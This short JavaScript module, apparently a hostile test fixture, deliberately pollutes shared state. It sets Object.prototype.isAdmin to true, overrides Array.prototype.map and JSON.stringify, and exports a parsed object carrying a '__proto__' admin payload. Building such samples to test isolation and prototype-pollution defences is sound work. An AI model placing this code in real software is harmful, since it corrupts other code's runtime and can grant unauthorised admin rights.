// Poisons everything it can reach, for itself and, it hopes, for those who come after it.
Object.prototype.isAdmin = true;
Array.prototype.map = () => ["poisoned"];
JSON.stringify = () => "poisoned";
globalThis.leftBehind = "poisoned";

export default JSON.parse('{ "__proto__": { "isAdmin": true }, "user": "guest" }');
